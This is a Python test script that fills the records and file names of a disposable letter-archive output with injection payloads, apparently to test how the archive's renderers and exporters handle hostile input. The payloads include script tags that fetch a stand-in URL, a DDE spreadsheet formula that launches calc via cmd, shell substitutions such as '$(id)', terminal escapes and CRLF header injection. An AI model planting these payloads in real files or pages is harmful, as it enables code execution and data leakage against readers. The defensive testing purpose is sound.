"""poison.py OUTPUT [URL]: makes the records of a throw-away output hostile, and its manifest true again.

Every record gets another attack in its title, subject, sender, signatories, addressees, asks, events and quotations.
Run `letterbook index` afterwards. URL is where a page that lets script or requests out would call."""
import hashlib
import json
import pathlib
import shutil
import sys


def attacks(url):
    return [
        f"<script>document.title='owned';fetch('{url}')</script>",
        f"<img src='{url}' onerror=\"document.title='owned'\"><svg onload=alert(1)>",
        f"</script></title></text></svg><style>@import '{url}'</style>",
        "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b1m\x08\x08",
        "\u202egnp.exe\u202c \u2066left\u2069 \u200bzero\u200d \ufeffmark",
        f'=HYPERLINK("{url}","click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+9)",
        "first\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:owned",
        'a,"b";c\r\n"=1+1",d\te',
        f"| cell | **bold** [x](javascript:alert(1)) ![i]({url}) `code` # h <br>",
        "<entry><title>owned</title></entry> ]]> <![CDATA[ x &amp; &lt; &#60;",
        "TY  - BOOK\r\nTI  - owned\r\nER  - \r\n",
        "}, author = {owned}}\n@book{owned, title = {x",
        "\u2028separator\u2029 next\u0085line \u00a0blank",
        "-- --> <!-- - --->",
        "\\end{document} $x^2$ 100% #1 ~tilde {brace} a_b & c",
        '"}],"title":"owned","x":[{"y":"',
        "\t=1+1",
        "javascript:document.title='owned'",
        f"data:text/html,<script src={url}></script>",
        "---\ntitle: owned\n...\n- item\n    code\n===",
        "1. list\n\n> quote\n\n[x]: javascript:alert(1)\n<javascript:alert(1)>\n***",
        "wide \u6f22\u5b57\U0001F469\u200d\u2695\ufe0f " * 12 + "end",
        "\\n\\;\\, DTSTART;VALUE=DATE:20200101 ^n^' \\",
        "%0d%0aLocation: owned %s %n &quot; &apos; &#x3c;script&#x3e;",
        "\uff1d1+1 \uff0b2 \ufe63 \u2212",
        "x\nATTACH:owned\nURL:javascript:alert(1)\n continued",
        "\ufff9a\ufffab\ufffb \U000e0041\U000e0042 \u061c\u00ad",
        "'=1+1' \u2018+1\u2019",
        "</feed></svg></html></table></ul></details>",
        "${7*7} {{7*7}} <%= 7 %> $(id) `id`",
        # A mark makes one character of itself and what stands before it, but not for a parser.
        "".join(mark + "\u0301" for mark in "=<>&\"'\\|`*_[](){}#~,;:-+@%$^/!\n\t") + "end",
    ]


PARTY = ["name", "honorific", "title", "office", "organization", "address"]
FIELDS = {
    "signatories": ["name", "title", "organization"], "addressees": PARTY, "copied": PARTY,
    "asks": ["text", "object"], "events": ["text"], "identifiers": ["printed", "value"], "agencies": [], "answers": [],
    "topics": [],
}


def poison(letter, text):
    """Puts the text wherever a document says what stands there."""
    def put(value):
        evidence = value.get("evidence", [])
        for passage in evidence if isinstance(evidence, list) else [evidence]:
            passage["quote"] = text

    evidence = letter["kindEvidence"]
    letter["title"] = text
    letter["subject"] = {"value": text, "evidence": evidence}
    letter["document"]["title"] = text
    letter["sender"] = {"organization": text, "evidence": evidence}
    letter["addressees"] = letter["addressees"] or [{"name": text, "evidence": evidence}]
    letter["signatories"] = letter["signatories"] or [{"name": text, "evidence": evidence}]
    letter["identifiers"].append({"type": "docket", "value": text, "printed": text, "evidence": dict(evidence)})
    letter["submission"] = {"channel": "email", "address": text}
    letter["events"] = letter["events"] or [
        {"date": "2020-06-01", "kind": "commentCloses", "text": text, "evidence": dict(evidence)}
    ]
    for name, keys in FIELDS.items():
        for value in letter.get(name, []):
            value.update({key: text for key in keys if name != "identifiers" or value["type"] == "docket"})
            put(value)
    for finding in letter["findings"]:
        finding["message"] = text
    for page in letter["pages"]:
        page["text"] += "\n" + text
    is_address = text.split(":")[0] in ("javascript", "data")
    letter["custody"] = [{"source": "test", "url": text if is_address else "https://example.org/" + text}]


def rename(corpus, letter, text):
    """Gives the original a hostile name, where it is a file of its own: any bytes but a slash and NUL, 255 at most."""
    paths = letter["original"]["paths"]
    name = text.replace("/", "_").encode()[:200].decode(errors="ignore") + pathlib.Path(paths[0]).suffix
    if not (corpus / paths[0]).is_file() or (corpus / name).exists():
        return
    shutil.copy(corpus / paths[0], corpus / name)
    letter["original"]["paths"] = [name]


def main():
    archive = pathlib.Path(sys.argv[1]) / "archive"
    texts = attacks(sys.argv[2] if len(sys.argv) > 2 else "http://letters.invalid/owned")
    lines = []
    for place, line in enumerate((archive / "manifest.jsonl").read_text().splitlines()):
        entry = json.loads(line)
        file = archive / entry["path"]
        letter = json.loads(file.read_text())
        poison(letter, texts[place % len(texts)])
        rename(archive.parent.parent / "Corpus", letter, texts[place % len(texts)])
        data = json.dumps(letter, ensure_ascii=False, sort_keys=True, indent=2).encode() + b"\n"
        file.write_bytes(data)
        entry["recordSha256"] = hashlib.sha256(data).hexdigest()
        lines.append(json.dumps(entry, separators=(",", ":"), sort_keys=True))
    (archive / "manifest.jsonl").write_text("".join(line + "\n" for line in lines))


if __name__ == "__main__":
    main()
